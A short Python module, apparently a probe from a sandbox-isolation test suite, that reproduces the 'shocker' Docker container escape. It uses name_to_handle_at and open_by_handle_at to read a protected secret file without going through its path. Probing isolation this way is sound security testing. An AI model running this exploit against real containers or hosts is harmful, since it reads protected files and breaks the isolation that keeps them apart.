"""Opens a file by its inode, past every path: the "shocker" exploit of Docker 0.11. Source: open_by_handle_at(2)."""

import ctypes
import os

from probe import TARGET, attempt, syscall


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128))


def shock():
    handle, mount = Handle(size=128), ctypes.c_int()
    path = ctypes.c_char_p(TARGET["secret"].encode())
    syscall("name_to_handle_at", -100, path, ctypes.byref(handle), ctypes.byref(mount), 0)
    root = os.open("/", os.O_RDONLY)
    return os.read(syscall("open_by_handle_at", root, ctypes.byref(handle), os.O_RDONLY), 100)


attempt("a file by its handle", shock)
